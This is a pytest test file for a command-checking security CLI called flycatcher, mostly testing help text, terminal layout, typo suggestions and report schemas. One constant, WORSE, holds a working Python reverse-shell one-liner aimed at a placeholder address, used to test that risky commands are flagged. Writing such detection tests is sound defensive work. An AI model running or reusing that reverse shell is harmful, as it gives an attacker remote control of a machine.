"""What somebody sees who tries the program for the first time."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from itertools import pairwise
from typing import TYPE_CHECKING

import click
import msgspec
import pytest
from click.testing import CliRunner

from flycatcher.commands import cli, start_page
from flycatcher.commands.doctor.cli import LIMITS_PAGE
from flycatcher.front import Command, Group
from flycatcher.layout import cells
from flycatcher.sinks.summary import RunSummary, ScanSummary, schema
from flycatcher.sources.sensors.probe import Probe
from tests.docs.console import ROOT
from tests.docs.test_links import anchors
from tests.terminal import screen, shown

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

WIDTHS = (40, 60, 80, 120, 200)
COMMANDS = ("", *cli.list_commands(click.Context(cli)))  # type: ignore[attr-defined]


def run(*words: str, **variables: str) -> click.testing.Result:
    return CliRunner().invoke(cli, words, env=variables, prog_name="flycatcher")


def tried(monkeypatch: pytest.MonkeyPatch, folder: Path, *works: str, programs: bool = True) -> list[str]:
    """Return the commands that the start page shows in a folder, where these commands work."""
    probes = [Probe(sensor="x", command=f"flycatcher {name}", works=name in works, why="") for name in ("run", "watch")]
    monkeypatch.setattr(start_page, "probes", lambda: iter(probes))
    monkeypatch.setattr(shutil, "which", lambda name: f"/usr/bin/{name}" if programs else None)
    monkeypatch.chdir(folder)
    return re.findall(r"^  (flycatcher .*?)(?:  .*)?$", "\n".join(map(click.unstyle, start_page.page(0))), re.MULTILINE)


CHECK = "flycatcher check -- python3 -c 'print(1)'"
PIPE = "flycatcher run -- sh -c 'echo \"print(1)\" | python3'"


def test_without_a_command_three_commands_are_shown(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    assert tried(monkeypatch, tmp_path) == [CHECK, "flycatcher guide", "flycatcher doctor"]
    assert tried(monkeypatch, tmp_path, "run") == [CHECK, PIPE, "flycatcher guide"]
    assert tried(monkeypatch, tmp_path, "run", "watch") == ["flycatcher watch --for 60", CHECK, PIPE]


def test_they_suit_the_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("all:\n\ttrue\n")
    assert tried(monkeypatch, tmp_path, "run") == ["flycatcher scan .", "flycatcher run -- make", CHECK]
    assert tried(monkeypatch, tmp_path, "run", programs=False) == ["flycatcher scan .", CHECK, PIPE]
    assert tried(monkeypatch, tmp_path) == ["flycatcher scan .", CHECK, "flycatcher guide"]
    (tmp_path / "package.json").write_text("{}")
    assert tried(monkeypatch, tmp_path, "run", "watch") == [
        "flycatcher watch --for 60",
        "flycatcher scan .",
        "flycatcher run -- npm install",
    ]


def test_they_can_be_called(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("all:\n\ttrue\n")
    for works in ((), ("run",), ("run", "watch")):
        for line in tried(monkeypatch, tmp_path, *works):
            assert cli.get_command(click.Context(cli), line.split()[1]) is not None


@pytest.mark.parametrize("columns", WIDTHS)
def test_the_start_page_fits_the_terminal(tmp_path: Path, columns: int) -> None:
    (tmp_path / "Dockerfile").write_text("FROM x\n")
    text, code = shown(columns=columns, folder=tmp_path)
    assert code == 0
    assert "flycatcher scan ." in text
    assert max(map(cells, text.split("\n"))) <= columns


@pytest.mark.parametrize("columns", WIDTHS)
@pytest.mark.parametrize("name", COMMANDS)
def test_help_fits_the_terminal_and_leaves_nothing_out(name: str, columns: int) -> None:
    words = [name] if name else []
    narrow, wide = (run(*words, "-h", COLUMNS=str(width)).output for width in (columns, 200))
    assert max(map(len, narrow.split("\n"))) <= columns
    assert pieces(narrow) == pieces(wide)


def pieces(text: str) -> str:
    """Return a text without what wrapping changes."""
    return re.sub(r"[\s\\]", "", text)


def test_every_command_has_the_help_that_fits() -> None:
    def commands(group: Group) -> Iterator[click.Command]:
        for name in group.list_commands(click.Context(group)):
            command = group.get_command(click.Context(group), name)
            assert command is not None
            yield command
            if isinstance(command, Group):
                yield from commands(command)

    assert isinstance(cli, Group)
    found = list(commands(cli))
    assert len(found) > 10
    assert [command.name for command in found if not isinstance(command, Command | Group)] == []


@pytest.mark.parametrize(
    ("words", "answer"),
    [
        (["scna", "."], "No such command 'scna'. Did you mean 'scan'"),
        (["doctr"], "No such command 'doctr'. Did you mean 'doctor'?"),
        (["config", "chek"], "No such command 'chek'. Did you mean 'check'"),
        (["help", "watsh"], "No such command 'watsh'. Did you mean 'watch'?"),
        (["sh"], "No such command 'sh'. To see what it starts: flycatcher run -- sh"),
        (["no-such-program"], "No such command 'no-such-program'.\n"),
        (["scan", "--fail-onn", "high"], "No such option '--fail-onn'. Did you mean '--fail-on'?"),
        (["help", "scan", "x"], "flycatcher scan has no commands of its own."),
    ],
)
def test_a_mistyped_word_gets_the_nearest_as_an_answer(words: list[str], answer: str) -> None:
    done = run(*words)
    assert done.exit_code == 2
    assert answer in done.output


@pytest.mark.parametrize("columns", WIDTHS)
@pytest.mark.parametrize(
    "words",
    [
        ["scna"],
        ["--nonsense"],
        ["scan", "--fail-onn"],
        ["scan", "--fail-on", "none", "."],
        ["scan"],
        ["guide", "no-such-place"],
    ],
)
def test_what_is_wrong_is_said_within_the_terminal(tmp_path: Path, words: list[str], columns: int) -> None:
    text, code = shown(*words, columns=columns, folder=tmp_path)
    assert code in {2, 3}
    assert max(map(cells, text.split("\n"))) <= columns


def test_words_that_cannot_be_used_are_shown_escaped(tmp_path: Path) -> None:
    for words in (["--\x1b[31mx"], ["scan", "--\x1b[31mx"], ["\x1b[31mx"]):
        text, code = shown(*words, columns=80, folder=tmp_path)
        assert (code, "\x1b" in text) == (2, False)


@pytest.mark.parametrize("words", [[], ["scan"], ["config", "check"], ["help"]])
def test_help_shows_what_the_option_shows(words: list[str]) -> None:
    assert run("help", *words).output == run(*words, "--help").output


@pytest.fixture
def report(tmp_path: Path) -> Path:
    """Return a file with one answer of check."""
    row = json.dumps(
        {"argv": ["python3", "-c", "import os; " + "os.system('echo one two three four'); " * 6], "id": "r1"}
    )
    (tmp_path / "rows.jsonl").write_text(row + "\n")
    (tmp_path / "report.jsonl").write_text(run("check", "--jsonl", str(tmp_path / "rows.jsonl")).output)
    return tmp_path / "report.jsonl"


@pytest.mark.parametrize("columns", WIDTHS)
def test_explain_fits_the_terminal_in_colour(report: Path, columns: int) -> None:
    text, code = shown("explain", str(report), columns=columns)
    assert code == 0
    assert "\x1b[" in text
    assert max(map(cells, text.split("\n"))) <= columns
    plain, _ = shown("explain", str(report), columns=columns, variables={"NO_COLOR": "1"})
    assert plain == click.unstyle(text)
    assert run("explain", str(report)).output.count("\n") <= plain.count("\n")


@pytest.mark.parametrize("command", [["check", "--", "perl", "-e", "1"], ["guide", "ci"], ["doctor"]])
def test_no_color_is_respected(command: list[str]) -> None:
    assert "\x1b[" in shown(*command, columns=80)[0]
    assert "\x1b[" not in shown(*command, columns=80, variables={"NO_COLOR": "1"})[0]


MAKEFILE = """all:
\tpython3 -c "print(1)"
\tsomewhere && A=1 B=2 C=3 D=4 E=5 F=6 G=7 some-tool --with many --words | env LANG=C sudo -u nobody python3 -c "import os; os.system('x')"
"""


@pytest.mark.parametrize("columns", WIDTHS)
def test_a_scan_fits_the_terminal_and_its_carets_stand_below_the_text(tmp_path: Path, columns: int) -> None:
    (tmp_path / "Makefile").write_text(MAKEFILE)
    text, code = shown("scan", "--no-history", ".", columns=columns, folder=tmp_path)
    assert code == 0
    lines = screen(text, columns)
    marked = [above[below.index("^") : below.rindex("^") + 1] for above, below in pairwise(lines) if "^" in below]
    assert marked[0] == "print(1)"
    assert "import os; os.system('x')".startswith(marked[1].removesuffix("…"))
    assert len(marked[1]) > 15


def test_unknown_text_shows_as_such() -> None:
    output = run("check", "-vv", "--shell", 'python3 -c "print($X)"').output
    assert "print(<?>)" in output
    assert "U000f0000" not in output


WORSE = (
    "import os, pty, socket; s = socket.create_connection(('192.0.2.1', 9)); os.dup2(s.fileno(), 0); pty.spawn('sh')"
)


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (["--fail-on", "low", "--", "python3", "-c", "print(1)"], 0),
        (["--fail-on", "all", "--", "python3", "-c", "print(1)"], 10),
        (["--fail-on", "high", "--", "python3", "-c", WORSE], 10),
        (["--fail-on", "low", "--", "python3", "script.py"], 0),
        (["--fail-on", "high", "--shell", f'python3 -c "{WORSE}"'], 10),
        (["--fail-on", "critical", "--shell", 'python3 -c "import os"'], 0),
        (["--fail-on", "all", "--shell", "ls"], 0),
        (["--fail-on", "all", "--no-risk", "--", "python3", "-c", "1"], 10),
        (["--fail-on", "high", "--no-risk", "--", "python3", "-c", "1"], 2),
    ],
)
def test_check_fails_on_the_level_that_it_is_told(words: list[str], code: int) -> None:
    assert run("check", *words).exit_code == code


def test_a_stream_fails_on_the_level_that_it_is_told(tmp_path: Path) -> None:
    rows = [{"argv": ["ls"]}, {"argv": ["perl", "-e", "\udc80"]}, {"argv": []}]
    (tmp_path / "rows").write_text("".join(json.dumps(row) + "\n" for row in rows))
    codes = [run("check", *more, "--jsonl", str(tmp_path / "rows")).exit_code for more in ([], ["--fail-on", "all"])]
    assert codes == [1, 10]
    assert run("check", "--fail-on", "critical", "--jsonl", str(tmp_path / "rows")).exit_code == 1


def test_an_answer_carries_the_rows_own_id_host_and_time() -> None:
    rows = [
        {"argv": ["ls"], "id": 7, "host": "a"},
        {"argv": ["python3", "-c", "1"], "id": {"n": [1]}, "time": "2026-01-01T00:00:00Z"},
        {"shell": "ls", "id": "s"},
        {"argv": ["perl", "-e", "\udc80"], "id": "odd"},
        {"argv": ["\udc80"], "host": "b"},
        {"id": "nothing"},
        {"argv": ["ls"]},
    ]
    done = subprocess.run(
        [sys.executable, "-m", "flycatcher", "check", "--jsonl", "-"],
        input="".join(json.dumps(row) + "\n" for row in rows),
        capture_output=True,
        text=True,
        check=False,
    )
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    own = [{name: answer[name] for name in ("id", "host", "time") if name in answer} for answer in answers]
    assert own == [{name: row[name] for name in ("id", "host", "time") if name in row} for row in rows]
    assert [answer.get("code_on_the_fly") for answer in answers] == [False, True, False, True, False, None, False]


@pytest.mark.parametrize(
    ("name", "text", "words", "code"),
    [
        ("README.md", "# x\n", [], 3),
        ("README", "# x\n", [], 3),
        ("README", "# x\n", ["--allow-empty"], 0),
        ("Makefile", "all:\n\ttrue\n", [], 0),
    ],
)
def test_a_scan_that_finds_no_build_file_has_nothing_to_read(
    tmp_path: Path, name: str, text: str, words: list[str], code: int
) -> None:
    (tmp_path / name).write_text(text)
    for path in (tmp_path, tmp_path / name):
        assert run("scan", "--no-history", *words, str(path)).exit_code == code


def test_a_scan_ends_its_report_with_the_summary_that_the_schema_describes(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text(MAKEFILE)
    assert run("scan", "--no-history", "-o", str(tmp_path / "r.jsonl"), str(tmp_path)).exit_code == 0
    last = json.loads((tmp_path / "r.jsonl").read_text().splitlines()[-1])
    assert last["schema"] == schema()["properties"]["schema"]["const"]
    summary = msgspec.convert(last["summary"], ScanSummary)
    assert [summary.files, summary.findings] == [1, 2]
    assert last["summary"].keys() == {*ScanSummary.__struct_fields__} - {"rules"}


@pytest.mark.parametrize("more", [[], ["--deny", "--baseline"]])
def test_a_run_ends_its_report_with_the_summary_that_the_schema_describes(tmp_path: Path, more: list[str]) -> None:
    report = tmp_path / "r.jsonl"
    shown("run", "--report", str(report), *more, "--", "true", columns=80, folder=tmp_path)
    last = json.loads(report.read_text().splitlines()[-1])
    assert msgspec.convert(last["summary"], RunSummary).detections == 0
    assert (last["summary"].keys() == {*RunSummary.__struct_fields__} - {"rules"}) == bool(more)


def test_the_schema_of_a_summary_is_printed() -> None:
    printed = json.loads(run("schema", "summary").output)
    assert printed["title"] == "flycatcher summary"
    assert printed["$defs"].keys() == {
        "RunSummary",
        "WatchSummary",
        "ScanSummary",
        "HuntSummary",
        "Skipped",
        "RuleFigures",
    }


def test_doctor_names_a_section_that_exists() -> None:
    page, _, anchor = LIMITS_PAGE.partition("#")
    assert anchor in anchors(ROOT / page)
    assert LIMITS_PAGE in run("doctor", PATH=os.defpath).output


@pytest.mark.parametrize("columns", WIDTHS)
@pytest.mark.parametrize("variables", [{}, {"NO_COLOR": "1"}, {"TERM": "dumb"}], ids=["plain", "no colour", "dumb"])
def test_a_run_s_lines_fit_the_terminal(tmp_path: Path, columns: int, variables: dict[str, str]) -> None:
    words = [
        "--",
        "sh",
        "-c",
        "python3 -c 'import os; print(sorted(os.environ)[:1])' # a long comment that follows the words",
    ]
    text, code = shown("run", "-vv", *words, columns=columns, folder=tmp_path, variables=variables)
    assert code == 0
    assert "reads all environment variables at once" in " ".join(click.unstyle(text).split())
    assert max(map(cells, text.split("\n"))) <= columns


@pytest.mark.parametrize(
    "form", ["text", "sarif", "github", "gitlab", "gitlab-sast", "markdown", "junit", "checkstyle"]
)
def test_what_is_not_known_of_a_text_shows_as_such_in_every_format_for_people(tmp_path: Path, form: str) -> None:
    (tmp_path / "x.sh").write_text("python3 -c \"import os; os.system('a $B')\"\n")
    output = run("scan", "--no-history", "--format", form, str(tmp_path / "x.sh")).output
    assert "\U000f0000" not in output
    assert "f0000" not in output.lower()
